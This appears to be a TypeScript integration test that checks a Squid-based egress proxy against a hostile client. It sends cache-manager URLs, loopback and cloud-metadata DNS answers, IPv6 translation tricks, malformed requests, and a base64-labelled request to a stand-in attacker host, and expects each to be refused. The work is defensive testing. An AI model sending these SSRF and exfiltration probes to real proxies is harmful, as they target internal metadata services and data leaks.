import type { ChildProcess } from "node:child_process";
import { parseAccessLine } from "../modules/monitoring/access-log";
import { hubSquidConf } from "../modules/proxy/squid-conf";
import { configFrom, defaultConfigData } from "./helpers";
import { programDescribe, requireProgram, requireRoot } from "./helpers-programs";
import {
  portOpen,
  proxyConnect,
  proxyGet,
  proxyRaw,
  startDnsServer,
  startOrigin,
  startSquid,
  stopOrigin,
  vethNamespace,
  waitFor,
  type DnsServer,
  type DnsZone,
  type Namespace,
  type SquidRun,
} from "./helpers-squid";

/**
 * What a spoke can still try against the proxy (issue 11), against a real Squid with the
 * rendered config of a hub on 198.18.0.0/16 (valid in AWS, outside the private ranges). A DNS
 * server the test runs is Squid's only resolver (no hosts file): it records every query and
 * answers allowed names with the addresses each case needs. An origin in a network namespace
 * (203.0.113.10) stands for the internet. Every wait is bounded; afterAll removes everything.
 */
const HUB_CIDR = "198.18.0.0/16";
const ORIGIN_IP = "203.0.113.10";
const HOST_IP = "203.0.113.1";
/** The example's spokes on ports of their own (squid-live.test.ts runs alongside on 3128-3132). */
const PORT = { "project-a": 3228, "project-b": 3229, "project-c": 3230, "project-d": 3231, "project-e": 3232 } as const;
const A = PORT["project-a"];

/** Names under spoke A's `.github.com` that resolve where no spoke may go. */
const FORBIDDEN_ANSWERS: ReadonlyArray<readonly [string, string, DnsZone[string]]> = [
  ["the unspecified address ::", "zero.github.com", { AAAA: ["::"] }],
  ["IPv6 loopback", "loop6.github.com", { AAAA: ["::1"] }],
  ["IPv4-compatible loopback", "compat.github.com", { AAAA: ["::7f00:1"] }],
  ["IPv4-mapped loopback", "mapped.github.com", { AAAA: ["::ffff:127.0.0.1"] }],
  ["IPv4-mapped metadata service", "mapped-imds.github.com", { AAAA: ["::ffff:169.254.169.254"] }],
  ["NAT64 (well-known prefix)", "nat64.github.com", { AAAA: ["64:ff9b::7f00:1"] }],
  ["NAT64 (local-use prefix)", "nat64-local.github.com", { AAAA: ["64:ff9b:1::a00:5"] }],
  ["6to4", "sixtofour.github.com", { AAAA: ["2002:7f00:1::"] }],
  ["Teredo", "teredo.github.com", { AAAA: ["2001:0:7f00:1::1"] }],
  ["the IPv6 metadata service", "imds6.github.com", { AAAA: ["fd00:ec2::254"] }],
  ["the hub's own VPC (198.18.0.0/16)", "hub.github.com", { A: ["198.18.0.10"] }],
  ["a public address next to one in the hub's VPC", "mixed.github.com", { A: [ORIGIN_IP, "198.18.0.10"] }],
];

const ZONE: DnsZone = {
  "api.github.com": { A: [ORIGIN_IP] },
  "only-a.github.com": { A: [ORIGIN_IP] },
  ...Object.fromEntries(FORBIDDEN_ANSWERS.map(([, name, answer]) => [name, answer])),
};

/** Under spoke A's `.github.com`: a 64-character label, and a 254-character name of labels no longer than 63. */
const LONG_LABEL = `${"l".repeat(64)}.github.com`;
const LONG_NAME = `${["a", "b", "c"].map((c) => c.repeat(63)).join(".")}.${"d".repeat(51)}.github.com`;

/** A GET of `url` as a proxy client sends it, for URLs Node's HTTP client will not send. */
function rawGet(url: string): string {
  return `GET ${url} HTTP/1.1\r\nHost: ${/^[a-z_]+:\/\/([^/]+)/.exec(url)?.[1] ?? "api.github.com"}\r\nConnection: close\r\n\r\n`;
}

programDescribe("a real Squid against a hostile spoke (issue 11)", () => {
  const squid = requireProgram("squid");
  const ip = requireProgram("ip");
  requireRoot();
  let ns: Namespace | undefined;
  let origin: ChildProcess | undefined;
  let dns: DnsServer | undefined;
  let proxy: SquidRun | undefined;

  beforeAll(async () => {
    ns = vethNamespace(ip, "x", HOST_IP, ORIGIN_IP);
    origin = await startOrigin(ns, ORIGIN_IP);
    dns = await startDnsServer(HOST_IP, ZONE);
    const data = defaultConfigData();
    data.hub.cidr = HUB_CIDR;
    for (const [name, port] of Object.entries(PORT)) data.spokes[name].port = port;
    const config = configFrom(data);
    // The access log goes through the instance's log daemon, as on the instance.
    proxy = await startSquid(squid, { conf: hubSquidConf(config.hub, config.spokes), ports: Object.values(PORT), nameserver: HOST_IP, logDaemon: true });
  }, 60_000);

  afterAll(async () => {
    await proxy?.stop();
    await dns?.close();
    await stopOrigin(origin);
    ns?.remove();
  }, 30_000);

  /** The names the resolver was asked for while `fn` ran. */
  async function queriedDuring(fn: () => Promise<void>): Promise<string[]> {
    const before = dns!.queries.length;
    await fn();
    await new Promise((r) => setTimeout(r, 200)); // a query Squid sends after replying would still show
    return dns!.queries.slice(before).map((q) => `${q.type} ${q.name}`);
  }

  test("the test's resolver works: an allowed name reaches the origin", async () => {
    const reply = await proxyGet(A, "http://api.github.com/ok");
    expect(reply.status).toBe(200);
    expect(JSON.parse(reply.body).origin).toBe("egresslink-test-origin");
  });

  test.each([
    ["cache_object on port 80", "cache_object://api.github.com:80/info"],
    ["cache_object on port 443", "cache_object://api.github.com:443/active_requests"],
    ["squid-internal-mgr on an allowed host", "http://api.github.com/squid-internal-mgr/client_list"],
    ["squid-internal-mgr on the proxy's name", `http://egresslink-proxy:${A}/squid-internal-mgr/info`],
    ["squid-internal-mgr on the proxy's address", `http://127.0.0.1:${A}/squid-internal-mgr/ipcache`],
  ])("the cache manager is refused: %s", async (_what, url) => {
    const reply = await proxyRaw(A, rawGet(url));
    expect(reply.status).toBe(403);
    expect(reply.body).not.toMatch(/Squid Object Cache|Cache Clients|Connection: 0x|Connection information|IP Cache|egresslink-test-origin/);
  }, 10_000);

  test.each([
    ["ftp://", "ftp://api.github.com:80/"],
    ["gopher://", "gopher://api.github.com:80/1"],
    ["whois://", "whois://api.github.com:80/x"],
    ["https:// (TLS from the proxy instead of CONNECT)", "https://api.github.com:443/"],
    ["urn:", "urn:x-egresslink:api.github.com"],
  ])("a scheme other than http to an allowed host is refused: %s", async (_what, url) => {
    const reply = await proxyRaw(A, rawGet(url));
    // 501: Squid 5.7 has no gopher client and refuses the URL itself.
    expect([403, 501]).toContain(reply.status);
    expect(reply.body).not.toContain("egresslink-test-origin");
  }, 10_000);

  test.each(FORBIDDEN_ANSWERS.map(([what, name]) => [what, name]))("an allowed name resolving to %s is refused", async (_what, name) => {
    expect((await proxyGet(A, `http://${name}/`)).status).toBe(403);
    expect((await proxyConnect(A, `${name}:443`)).status).toBe(403);
  });

  test("the resolver is asked only for allowed names: never for other names, IP literals or clients", async () => {
    const queried = await queriedDuring(async () => {
      // Names outside the lists: a would-be exfiltration channel, and spoke A's name through spoke B's port.
      expect((await proxyGet(A, "http://c2VjcmV0.attacker.example/")).status).toBe(403);
      expect((await proxyConnect(A, "c2VjcmV0.attacker.example:443")).status).toBe(403);
      expect((await proxyGet(PORT["project-b"], "http://only-a.github.com/")).status).toBe(403);
      // IP literals: nothing to resolve forward, and no reverse lookup either.
      expect((await proxyGet(A, `http://${ORIGIN_IP}/`)).status).toBe(403);
      expect((await proxyConnect(A, `${ORIGIN_IP}:443`)).status).toBe(403);
      expect((await proxyGet(A, "http://[2001:db8::1]/")).status).toBe(403);
      // The same name through its own spoke's port is resolved and served.
      expect((await proxyGet(A, "http://only-a.github.com/")).status).toBe(200);
    });
    expect([...new Set(queried)].sort()).toEqual(["A only-a.github.com", "AAAA only-a.github.com"]);
    // Over the whole run so far: Squid never reverse-resolved a client (or anything else).
    expect(dns!.queries.filter((q) => q.type !== "A" && q.type !== "AAAA")).toEqual([]);
  });

  test.each([
    ["a label over 63 characters", LONG_LABEL],
    ["a name over 253 characters", LONG_NAME],
  ])("%s in an allowed domain is refused at once, with no DNS query", async (_what, name) => {
    const started = Date.now();
    const queried = await queriedDuring(async () => {
      expect((await proxyGet(A, `http://${name}/`)).status).toBe(403);
      expect((await proxyConnect(A, `${name}:443`)).status).toBe(403);
    });
    expect(Date.now() - started).toBeLessThan(1500);
    expect(queried).toEqual([]);
  }, 10_000);

  test("every access-log line of the run names the spoke it came through, requests Squid could not parse included", async () => {
    // Requests Squid rejects while parsing (400, 414, 431): no request, so no ACL or note sees them.
    const rejected = [
      ["project-c", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, / \*$/],
      ["project-c", "GET http://api.github.com:99999/ HTTP/1.1\r\nHost: api.github.com\r\n\r\n", 400, /:99999\//],
      ["project-d", `GET http://api.github.com/${"u".repeat(70_000)} HTTP/1.1\r\nHost: api.github.com\r\n\r\n`, 414, / 414 .* error:request-too-large$/],
      ["project-d", `GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nX-Big: ${"h".repeat(70_000)}\r\n\r\n`, 431, / 431 .* error:request-too-large$/],
    ] as const;
    for (const [spoke, request, status] of rejected) expect((await proxyRaw(PORT[spoke], request)).status).toBe(status);
    // A connection closed before any request (what a TCP health check does).
    expect(await portOpen(PORT["project-e"])).toBe(true);
    await proxyGet(PORT["project-e"], "http://api.github.com/last-line");
    await waitFor("the last log line", 20_000, () => proxy!.accessLines().some((l) => l.includes("/last-line")));
    const lines = proxy!.accessLines();
    const spokeOf = (line: string) => parseAccessLine(line)?.spoke;
    const portOf = (line: string) => Number(parseAccessLine(line)?.local_port);
    expect(lines.filter((l) => spokeOf(l) === "-")).toEqual([]);
    // Every line's spoke is the one whose port it came in on.
    expect(lines.filter((l) => spokeOf(l) === undefined || PORT[spokeOf(l) as keyof typeof PORT] !== portOf(l))).toEqual([]);
    for (const [spoke, , , pattern] of rejected) expect(lines.filter((l) => pattern.test(l)).map(spokeOf)).toEqual([spoke]);
    // (PRI's "SM" leaves one on project-c's port too.)
    expect(lines.filter((l) => / error:transaction-end-before-headers$/.test(l)).map(spokeOf)).toContain("project-e");
    // The load balancers' health checks (connections closed on the health port) leave no line.
    expect(await portOpen(Math.min(...Object.values(PORT)) - 1)).toBe(true);
    await proxyGet(PORT["project-e"], "http://api.github.com/after-health-check");
    await waitFor("the line after the health check", 20_000, () => proxy!.accessLines().some((l) => l.includes("/after-health-check")));
    expect(proxy!.accessLines().filter((l) => !(Object.values(PORT) as number[]).includes(portOf(l)))).toEqual([]);
  }, 60_000);

  test("Squid logged no errors", () => {
    expect(proxy!.errors()).toEqual([]);
  });
});
